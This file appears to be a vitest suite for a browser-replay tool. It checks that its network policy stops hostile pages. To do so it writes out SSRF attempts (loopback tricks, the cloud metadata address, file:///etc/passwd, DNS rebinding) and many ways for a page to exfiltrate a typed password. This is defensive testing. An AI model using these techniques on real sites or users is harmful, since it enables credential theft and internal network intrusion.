/** `browser_replay` in a real Chromium: steps, evidence, and no way to what the network policy does not let through. */
import { createSocket } from "node:dgram";
import { existsSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import { type AddressInfo, createServer as createTcp } from "node:net";
import { inflateSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { ToolContext } from "../../../src/activities/define-tool.js";
import { createDefaultRegistry } from "../../../src/activities/registry.js";
import { browserReplay } from "../../../src/activities/tools/browser-replay.js";
import { checkAgainst } from "../../../src/core/check.js";
import { DEFAULT_POLICY } from "../../../src/core/policy.js";
import { createHostGuard } from "../../../src/platform/http/host-guard.js";
import { browserSchema } from "../../../src/schema/config/browser.js";
import type { Config } from "../../../src/schema/config.js";
import type { JsonObject } from "../../../src/schema/json.js";
import { parseGraph } from "../../../src/schema/parse-graph.js";
import { configOf, contextOf, failureOf } from "../../support/tool-context.js";

const CHROMIUM = "/usr/bin/chromium";

/** The shop stands on 127.0.0.2, which the policy lets through; what must not be reached stands on 127.0.0.1. */
const SHOP = "shop.example.com";
const NETWORK = { allowed_hosts: ["*.example.com", "127.0.0.1", "[::1]"], allowed_private: ["127.0.0.2/32"] };
const NAMES: Record<string, string> = {
  [SHOP]: "127.0.0.2",
  "loop.example.com": "127.0.0.1",
  "six.example.com": "::1",
};

const pages = new Map<string, string>();
let shop: Server;
let victim: Server;
let origin: string;
let hit: string[] = [];
/** Everything that the shop was asked for. */
let asks: string[] = [];
/** How often a name was asked for: the rebinding one answers otherwise from the second time on. */
let asked: Record<string, number> = {};
let victimPort: number;

const listening = async (server: Server, host: string, port = 0): Promise<number> => {
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, host, resolve);
  });
  return (server.address() as AddressInfo).port;
};
const text = (request: IncomingMessage) => `${request.method} ${request.headers.host}${request.url}`;

beforeAll(async () => {
  shop = createServer((request, response) => {
    asks.push(text(request));
    const path = (request.url ?? "").split("?")[0] ?? "";
    if (path === "/to-victim")
      return void response.writeHead(302, { location: `http://127.0.0.1:${victimPort}/redirected` }).end();
    if (path === "/to-loop")
      return void response.writeHead(302, { location: `http://loop.example.com:${victimPort}/` }).end();
    if (path === "/file")
      return void response.writeHead(200, { "content-disposition": "attachment; filename=a.bin" }).end("x");
    if (path === "/sw.js") return void response.writeHead(200, { "content-type": "text/javascript" }).end("");
    if (path === "/missing")
      return void response.writeHead(404, { "content-type": "text/html" }).end("<h1>Not here</h1>");
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(pages.get(path) ?? "<h1>Shop</h1>");
  });
  victim = createServer((request, response) => {
    hit.push(text(request));
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("metadata secret");
  });
  victim.on("upgrade", (request, socket) => {
    hit.push(text(request));
    socket.destroy();
  });
  origin = `http://${SHOP}:${await listening(shop, "127.0.0.2")}`;
  victimPort = await listening(victim, "127.0.0.1");
});
afterAll(async () => {
  for (const server of [shop, victim]) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});
beforeEach(() => {
  hit = [];
  asks = [];
  asked = {};
  pages.clear();
});

const blobs = new Map<string, string>();
function replay(steps: JsonObject[], browser: JsonObject = {}, parts: Partial<ToolContext> = {}) {
  const settings = browserSchema.parse({ executable: CHROMIUM, sandbox: process.getuid?.() !== 0, ...browser });
  const config: Config = configOf({ browser: settings });
  const hosts = createHostGuard({
    network: NETWORK,
    declaredUrls: [`http://127.0.0.1:${victimPort}/`],
    lookup: async (host) => {
      asked[host] = (asked[host] ?? 0) + 1;
      const rebound = asked[host] === 1 ? "127.0.0.2" : "127.0.0.1";
      const address = host === "rebind.example.com" ? rebound : NAMES[host];
      return address === undefined ? [] : [{ address, family: address.includes(":") ? 6 : 4 }];
    },
  });
  const context = contextOf(config, {
    hosts,
    secret: () => "canary-4711-password",
    blobs: {
      put: async (data) => {
        const reference = `blob:sha256:${String(blobs.size).padStart(64, "0")}`;
        blobs.set(reference, data);
        return reference;
      },
      get: async (reference) => blobs.get(reference) ?? "",
    },
    ...parts,
  });
  return browserReplay
    .run(browserReplay.params.parse({ steps }), context)
    .then((output) => browserReplay.output.parse(output));
}

/** The colours of a PNG's first pixel row at a few places are enough to see a mask; this counts its grey pixels. */
function greyPixels(reference: string): number {
  const png = Buffer.from((blobs.get(reference) ?? "").replace("data:image/png;base64,", ""), "base64");
  expect(png.subarray(1, 4).toString()).toBe("PNG");
  const width = png.readUInt32BE(16);
  const channels = png[25] === 6 ? 4 : 3;
  const data: Buffer[] = [];
  for (let at = 8; at < png.length; ) {
    const length = png.readUInt32BE(at);
    if (png.subarray(at + 4, at + 8).toString() === "IDAT") data.push(png.subarray(at + 8, at + 8 + length));
    at += length + 12;
  }
  const raw = inflateSync(Buffer.concat(data));
  const stride = width * channels;
  let before = Buffer.alloc(stride);
  let grey = 0;
  for (let row = 0; row * (stride + 1) < raw.length; row++) {
    const filter = raw[row * (stride + 1)] ?? 0;
    const line = Buffer.from(raw.subarray(row * (stride + 1) + 1, (row + 1) * (stride + 1)));
    for (let i = 0; i < line.length; i++) {
      const left = i >= channels ? (line[i - channels] ?? 0) : 0;
      const up = before[i] ?? 0;
      const corner = i >= channels ? (before[i - channels] ?? 0) : 0;
      const estimate = left + up - corner;
      const [a, b, c] = [Math.abs(estimate - left), Math.abs(estimate - up), Math.abs(estimate - corner)];
      const paeth = a <= b && a <= c ? left : b <= c ? up : corner;
      const add = [0, left, up, (left + up) >> 1, paeth][filter] ?? 0;
      line[i] = ((line[i] ?? 0) + add) & 0xff;
    }
    for (let i = 0; i < line.length; i += channels) {
      if (line[i] === 0x80 && line[i + 1] === 0x80 && line[i + 2] === 0x80) grey += 1;
    }
    before = line;
  }
  return grey;
}

describe.skipIf(!existsSync(CHROMIUM))(
  "in a real Chromium (skipped where /usr/bin/chromium is absent)",
  { timeout: 60_000 },
  () => {
    test("steps are carried out in order, with pictures, console and status as evidence", async () => {
      pages.set(
        "/",
        `<h1>Shop</h1><form action="/done"><input id="q"><select id="n"><option>1</option><option>2</option></select><button>Go</button></form>
       <script>console.error("token ghp_${"A".repeat(36)}"); document.querySelector("#q").addEventListener("change", (e) => console.log(e.target.value));</script>`,
      );
      pages.set("/done", "<p>Thank you</p>");
      const said = await replay([
        { do: "goto", url: `${origin}/` },
        { do: "expect_status", status: [200] },
        { do: "fill", selector: "#q", value: "shoes" },
        { do: "select", selector: "#n", value: "2" },
        { do: "screenshot", name: "form" },
        { do: "press", selector: "#q", key: "Tab" },
        { do: "click", selector: "text=Go" },
        { do: "wait_for", selector: "p" },
        { do: "expect_text", text: "thank you" },
      ]);
      expect(said).toMatchObject({ ok: true, url: `${origin}/done`, status: 200, refused: [] });
      expect(said.steps).toHaveLength(9);
      expect(said.screenshots.map(({ name, step }) => [name, step])).toEqual([
        ["form", 4],
        ["end", 9],
      ]);
      expect(said.console).toContainEqual({ level: "log", text: "shoes" });
      expect(JSON.stringify(said)).not.toContain("ghp_");
      expect(blobs.get(said.screenshots[0]?.blob ?? "")).toMatch(/^data:image\/png;base64,iVBOR/);
    });

    test("the first step that is not as expected ends it: a result with a picture, not a failure", async () => {
      const said = await replay([
        { do: "goto", url: `${origin}/missing?token=abc` },
        { do: "expect_status", status: [200] },
        { do: "screenshot" },
      ]);
      expect(said).toMatchObject({ ok: false, status: 404, url: `${origin}/missing` });
      expect(said.steps.map(({ ok }) => ok)).toEqual([true, false]);
      expect(said.steps[1]?.says).toBe("status 404, expected 200");
      expect(said.screenshots.map(({ name }) => name)).toEqual(["failure"]);
      expect(said.findings[0]?.statement).toContain("step 2 (expect_status)");
    });

    test("nothing that a page does reaches what the policy does not let through", async () => {
      const udp = createSocket("udp4");
      let datagrams = 0;
      udp.on("message", () => {
        datagrams += 1;
      });
      await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
      const stun = (udp.address() as AddressInfo).port;
      const tcp = createTcp((socket) => {
        hit.push("tcp");
        socket.destroy();
      });
      await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
      const plain = (tcp.address() as AddressInfo).port;
      const at = `127.0.0.1:${victimPort}`;
      pages.set(
        "/",
        `<iframe src="http://${at}/iframe"></iframe><img src="http://loop.example.com:${victimPort}/img">
      <link rel="prefetch" href="http://${at}/prefetch"><link rel="preconnect" href="http://${at}/">
      <iframe src="http://2130706433:${victimPort}/decimal"></iframe><iframe src="http://0.0.0.0:${victimPort}/zero"></iframe>
      <iframe src="http://[::ffff:127.0.0.1]:${victimPort}/mapped"></iframe><iframe src="http://six.example.com:${victimPort}/six"></iframe>
      <iframe src="http://localhost:${victimPort}/localhost"></iframe><iframe src="http://169.254.169.254/latest/"></iframe>
      <iframe src="http://other.example.net/"></iframe><iframe src="/to-victim"></iframe><iframe src="file:///etc/passwd"></iframe>
      <a id="save" href="/file" download>x</a>
      <script>
        const end = [];
        const step = (work) => end.push(Promise.race([Promise.resolve().then(work).catch(() => 0), new Promise((r) => setTimeout(r, 2000))]));
        step(() => fetch("http://${at}/fetch"));
        step(() => fetch("/to-victim"));
        step(async () => {
          const port = location.port;
          await fetch("http://rebind.example.com:" + port + "/first", { mode: "no-cors" });
          await fetch("http://rebind.example.com:${victimPort}/second", { mode: "no-cors" });
        });
        step(() => fetch("https://${at}/https"));
        step(() => fetch("http://127.0.0.1:${plain}/port"));
        step(() => new Promise((done) => { const s = new WebSocket("ws://${at}/ws"); s.onclose = done; }));
        step(() => new Promise((done) => { const s = new EventSource("http://${at}/events"); s.onerror = () => { s.close(); done(); }; }));
        step(() => navigator.sendBeacon("http://${at}/beacon", "x"));
        step(() => navigator.serviceWorker?.register("/sw.js"));
        step(() => { window.open("http://${at}/popup"); });
        step(() => { document.querySelector("#save").click(); });
        step(() => new WebTransport("https://${at}/wt").ready);
        step(async () => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${stun}" }] });
          peer.createDataChannel("x");
          await peer.setLocalDescription(await peer.createOffer());
          await new Promise((done) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && done(); });
        });
        Promise.all(end).then(() => { document.body.append("finished"); });
      </script>`,
      );
      const said = await replay([
        { do: "goto", url: `${origin}/` },
        { do: "expect_text", text: "finished" },
      ]);
      udp.close();
      tcp.close();
      expect(said.ok, JSON.stringify(said.steps)).toBe(true);
      expect(hit).toEqual([]);
      expect(datagrams).toBe(0);
      expect(asked["rebind.example.com"]).toBe(2);
      const refused = said.refused.map(({ host, code }) => `${host} ${code}`);
      for (const place of [
        "127.0.0.1 address-not-allowed",
        "loop.example.com address-not-allowed",
        "six.example.com address-not-allowed",
        "rebind.example.com address-not-allowed",
        "169.254.169.254 host-not-allowed",
        "localhost host-not-allowed",
        "other.example.net host-not-allowed",
        "0.0.0.0 host-not-allowed",
      ]) {
        expect(refused).toContain(place);
      }
      expect(said.failed_requests.length).toBeGreaterThan(3);
      expect(JSON.stringify(said)).not.toContain("metadata secret");
    });

    test("a page that the policy refuses is a failure with its code, also behind a redirect, and where a name means this machine", async () => {
      for (const path of ["/to-victim", "/to-loop"]) {
        expect(await failureOf(replay([{ do: "goto", url: `${origin}${path}` }])), path).toMatchObject({
          code: "address-not-allowed",
        });
      }
      for (const url of ["https://other.example.net/"]) {
        expect(await failureOf(replay([{ do: "goto", url }])), url).toMatchObject({ code: "host-not-allowed" });
      }
      expect(hit).toEqual([]);
      const gone = await replay([{ do: "goto", url: "http://gone.example.com/" }]);
      expect(gone.steps).toMatchObject([{ ok: false, says: "nothing answered (source-unreachable)" }]);
      // Named by the graph itself and declared by config.yaml: what no page may do, who wrote the graph may.
      const said = await replay([{ do: "goto", url: `http://127.0.0.1:${victimPort}/named` }]);
      expect(said).toMatchObject({ ok: true, status: 200 });
    });

    test("a secret is typed where it may be, and stands in no picture, console line or output", async () => {
      // A real Chromium takes *.localhost for loopback, and so does the policy: no plain HTTP goes to another machine.
      const own = origin.replace(SHOP, "127.0.0.2");
      const secrets = { password: { value: "env:SHOP_PASSWORD", origins: [own] } };
      pages.set(
        "/",
        `<input id="p" style="width:400px;height:40px"><p id="echo"></p>
       <script>document.querySelector("#p").oninput = (e) => { console.log("typed " + e.target.value); document.querySelector("#echo").textContent = e.target.value; };</script>`,
      );
      const fill = { do: "fill", selector: "#p", secret: "password" };
      // Addresses are hosts of their own: allowed by the policy for this test alone.
      NETWORK.allowed_hosts.push("127.0.0.2");
      const said = await replay([{ do: "goto", url: `${own}/` }, { do: "screenshot" }, fill, { do: "screenshot" }], {
        secrets,
      });
      expect(said.ok, JSON.stringify(said.steps)).toBe(true);
      const [before, after] = said.screenshots;
      expect(greyPixels(before?.blob ?? "")).toBe(0);
      expect(greyPixels(after?.blob ?? "")).toBeGreaterThan(10_000);
      // The activity takes secrets that config.yaml names out of every output; what the page says of it stands there until then.
      expect(JSON.stringify({ ...said, console: [] })).not.toContain("canary");

      const elsewhere = { password: { ...secrets.password, origins: ["https://shop.example.com"] } };
      const refused = await failureOf(replay([{ do: "goto", url: `${own}/` }, fill], { secrets: elsewhere }));
      expect(refused).toMatchObject({ code: "host-not-allowed" });
      const plain = { password: { ...secrets.password, origins: [origin] } };
      const clear = await failureOf(replay([{ do: "goto", url: `${origin}/` }, fill], { secrets: plain }));
      expect(clear).toMatchObject({ code: "secret-over-http" });
      expect(await failureOf(replay([{ do: "goto", url: `${own}/` }, fill]))).toMatchObject({
        code: "source-not-configured",
      });
    });

    test("a secret that was typed reaches no other host, by copy and paste or by the page itself", async () => {
      const own = origin.replace(SHOP, "127.0.0.2");
      const secrets = { password: { value: "env:SHOP_PASSWORD", origins: [own] } };
      NETWORK.allowed_hosts.push("127.0.0.2");
      pages.set("/login", `<input id="p">`);
      pages.set(
        "/paste",
        `<input id="q" onpaste="setTimeout(() => fetch('/stolen?' + q.value).then(() => document.body.append('sent off')))">`,
      );
      pages.set(
        "/reader",
        `<input id="p"><script>p.oninput = () => { fetch("${origin}/stolen?" + p.value, { mode: "no-cors" }).catch(() => {}); navigator.sendBeacon("${origin}/stolen", p.value); }</script>`,
      );
      const typed = [{ do: "fill", selector: "#p", secret: "password" }];
      const copied = ["Control+a", "Control+c"].map((key) => ({ do: "press", key, selector: "#p" }));
      const pasted: JsonObject[] = [
        { do: "press", key: "Control+v", selector: "#q" },
        { do: "expect_text", text: "sent off" },
      ];
      const visit = (url: string) => ({ do: "goto", url });

      const carried = [visit(`${own}/login`), ...typed, ...copied, visit(`${origin}/paste`), ...pasted];
      const refused = await failureOf(replay(carried, { secrets }));
      expect(refused).toMatchObject({
        code: "host-not-allowed",
        message: expect.stringContaining("a secret of another origin"),
      });
      const said = await replay([visit(`${own}/reader`), ...typed, visit(`${own}/paste`)], { secrets });
      expect(said.ok, JSON.stringify(said.steps)).toBe(true);
      expect(said.refused.map(({ host }) => host)).toContain(SHOP);
      expect(asks.filter((one) => one.includes("/stolen"))).toEqual([]);

      // What may be told the secret stays within reach, and so does everything before it was typed.
      const both = { password: { value: "env:SHOP_PASSWORD", origins: [own, origin] } };
      const shared = await replay(carried, { secrets: both });
      expect(shared.ok, JSON.stringify(shared.steps)).toBe(true);
      expect(asks.join()).toContain("/stolen?canary");
      expect((await replay([visit(`${origin}/paste`), visit(`${own}/login`), ...typed], { secrets })).ok).toBe(true);
    });

    test("nor by what another host's page had open before, or by any other way that a page has", async () => {
      const own = origin.replace(SHOP, "127.0.0.2");
      const secrets = { password: { value: "env:SHOP_PASSWORD", origins: [own] } };
      NETWORK.allowed_hosts.push("127.0.0.2");
      const heard: string[] = [];
      const socket = createTcp((connection) => {
        connection.on("data", (bytes) => heard.push(bytes.toString("latin1")));
        connection.on("error", () => undefined);
      });
      const other = `${SHOP}:${await listening(socket as never, "127.0.0.2")}`;
      const udp = createSocket("udp4").on("message", (bytes) => heard.push(bytes.toString("latin1")));
      await new Promise<void>((resolve) => udp.bind(0, "127.0.0.2", resolve));
      const stun = (udp.address() as AddressInfo).port;
      pages.set("/seen", `<p>${SHOP}</p>`);
      // Of the other host, open before anything was typed: a frame with a connection, a popup, a worker.
      pages.set(
        "/frame",
        `<script>
          const open = new WebSocket("ws://${other}/early");
          const later = fetch("http://${other}/slow", { method: "POST", body: "early", mode: "no-cors" }).catch(() => 0);
          onmessage = ({ data }) => { try { open.send(data); } catch {} fetch("/stolen?frame" + data).catch(() => 0); new Image().src = "/stolen?image" + data; location = "/stolen?gone" + data; };
          setInterval(() => document.cookie.includes("x") && fetch("/stolen?cookie"), 50);
        </script>`,
      );
      const ways = `
        const v = p.value, at = "${origin}/stolen?";
        const tell = (work) => { try { Promise.resolve(work()).catch(() => 0); } catch {} };
        tell(() => document.querySelector("iframe").contentWindow.postMessage(v, "*"));
        tell(() => popup.postMessage(v, "*"));
        tell(() => { const f = document.createElement("form"); f.action = at + "form"; f.method = "post"; f.target = "_blank"; f.innerHTML = "<input name=v>"; f.firstChild.value = v; document.body.append(f); f.submit(); });
        tell(() => { window.open(at + "open" + v); });
        tell(() => { const a = document.createElement("a"); a.href = at + "ping"; a.ping = at + "ping" + v; a.download = "x"; document.body.append(a); a.click(); });
        tell(() => navigator.sendBeacon(at + "beacon", v));
        tell(() => fetch(at + "alive" + v, { keepalive: true, mode: "no-cors" }));
        tell(() => { new WebSocket("ws://${other}/late" + v); });
        tell(() => { new EventSource(at + "events" + v); });
        for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "prerender", "stylesheet", "icon", "manifest", "modulepreload"])
          tell(() => { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = rel === "dns-prefetch" || rel === "preconnect" ? "http://" + v.toLowerCase() + ".example.com:${new URL("http://x").port || 80}/" : at + rel + v; document.head.append(l); });
        tell(() => { const s = document.createElement("style"); s.textContent = "body { background: url(" + at + "css" + v + ") } @font-face { font-family: x; src: url(" + at + "font" + v + ") } body { font-family: x }"; document.head.append(s); });
        tell(() => { const o = document.createElement("object"); o.data = at + "object" + v; document.body.append(o); });
        tell(() => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + at + "worker" + v + "', { mode: 'no-cors' })"]))); });
        tell(() => { const m = document.createElement("video"); m.src = at + "video" + v; document.body.append(m); });
        tell(() => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "3;url=" + at + "meta" + v; document.head.append(m); });
        tell(async () => { const r = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.2:${stun}" }, { urls: "turn:127.0.0.2:${stun}?transport=udp", username: v, credential: v }, { urls: "turn:${other}?transport=tcp", username: v, credential: v }] }); r.createDataChannel("x"); await r.setLocalDescription(await r.createOffer()); });
        tell(() => { window.name = v; });
        tell(() => { history.pushState(0, "", "?" + v); document.title = v; });
        tell(() => { speechSynthesis.speak(new SpeechSynthesisUtterance(v)); });
        tell(() => { throw new Error("it is " + btoa(v) + " " + v); });
        tell(() => { console.table([v]); console.error({ v }); });`;
      pages.set(
        "/busy",
        `<iframe src="${origin}/frame"></iframe><input id="p"><button id="b" onclick='popup = window.open("${origin}/frame")'>open</button>
        <script>let popup; p.onchange = () => { ${ways} };</script>`,
      );
      const steps: JsonObject[] = [
        { do: "goto", url: `${own}/busy` },
        { do: "click", selector: "#b" },
        { do: "fill", selector: "#p", secret: "password" },
        { do: "press", selector: "#p", key: "Tab" },
      ];
      asks = [];
      const said = await replay(steps, { secrets }).catch((error: Error) => ({ error: error.message, refused: [] }));
      await new Promise((resolve) => setTimeout(resolve, 2_500));
      socket.close();
      udp.close();
      const sentOff = asks.filter((one) => one.includes(SHOP) && one.includes("/stolen"));
      expect(sentOff, JSON.stringify(said)).toEqual([]);
      expect(heard.join(" ").toLowerCase()).not.toContain("canary");
      expect(Object.keys(asked).filter((name) => name.includes("canary"))).toEqual([]);
      expect(heard.join(" ")).toContain("/early");
    });

    test("a run that wants it to stop ends the browser", async () => {
      const ends = new AbortController();
      const running = failureOf(
        replay(
          [
            { do: "goto", url: `${origin}/` },
            { do: "wait_for", selector: "#never", timeout_seconds: 60 },
          ],
          {},
          { signal: ends.signal, heartbeat: (doing) => void (doing?.includes("wait_for") && ends.abort()) },
        ),
      );
      expect(await running).toMatchObject({ code: "cancelled" });
    });

    test.skipIf(process.getuid?.() !== 0)(
      "a sandbox that root cannot have is told as such (skipped for others)",
      async () => {
        const said = await failureOf(replay([{ do: "goto", url: `${origin}/` }], { sandbox: true }));
        expect(said).toMatchObject({ code: "config-invalid" });
        expect(said.hint).toContain("another user than root");
      },
    );

    test("a browser that is not there is told as such", async () => {
      const said = await failureOf(replay([{ do: "goto", url: `${origin}/` }], { executable: "/nowhere/chromium" }));
      expect(said).toMatchObject({ code: "config-invalid" });
      expect(said.hint).toContain("browser.executable");
    });
  },
);

describe("params", () => {
  const problemsOf = (secret: string): string[] => {
    const settings = browserSchema.parse({
      executable: CHROMIUM,
      secrets: { shop_password: { value: "env:SHOP_PASSWORD", origins: ["https://shop.example.com"] } },
    });
    const registry = createDefaultRegistry(configOf({ browser: settings }));
    const steps = [
      { do: "goto", url: "https://shop.example.com/" },
      { do: "fill", selector: "#password", secret },
    ];
    const node = { id: "a", name: "log in", type: "browser_replay", tool: "browser_replay", params: { steps } };
    const parsed = parseGraph({ id: "g", name: "G", goal_description: "look", nodes: [node], edges: [] });
    if (!parsed.ok) return parsed.problems.map(({ code }) => code);
    const checked = checkAgainst(parsed.graph, {
      policy: DEFAULT_POLICY,
      policyDigest: "0".repeat(64),
      catalogue: registry,
      checkUrl: () => undefined,
    });
    return checked.ok ? [] : checked.problems.map(({ code }) => code);
  };

  test("name a secret that is declared; whatever else stands there is taken for a secret", () => {
    expect(problemsOf("shop_password")).toEqual([]);
    expect(problemsOf("Hunter2Literal99")).toContain("secret-in-params");
    for (const name of ["other_name", "constructor"]) expect(problemsOf(name)).toContain("source-not-configured");
  });

  test.each([
    ["code for the page", { do: "evaluate", script: "1" }],
    ["a script as a URL", { do: "goto", url: "javascript:alert(1)" }],
    ["a file as a URL", { do: "goto", url: "file:///etc/passwd" }],
    ["a value and a secret", { do: "fill", selector: "#a", value: "x", secret: "y" }],
    ["a reference to any variable", { do: "fill", selector: "#a", secret: "env:AWS_SECRET" }],
    ["a way into frames", { do: "click", selector: "iframe >> internal:control=enter-frame >> a" }],
    ["a key that is none", { do: "press", key: "rm -rf" }],
    ["a key that nobody knows", { do: "click", selector: "a", force: true }],
  ])("refuse %s", (_, step) => {
    expect(browserReplay.params.safeParse({ steps: [step] }).success).toBe(false);
  });

  test("name the setting where no browser is configured, and every URL that is written out", () => {
    const params = {
      steps: [
        { do: "goto", url: "https://a.example.com/" },
        { do: "goto", url: "{{ n.url }}" },
      ],
    };
    const reach = browserReplay.reach?.(params, configOf(), "params");
    expect(reach?.urls).toEqual(["https://a.example.com/"]);
    expect(reach?.problems).toMatchObject([{ code: "source-not-configured" }]);
  });
});
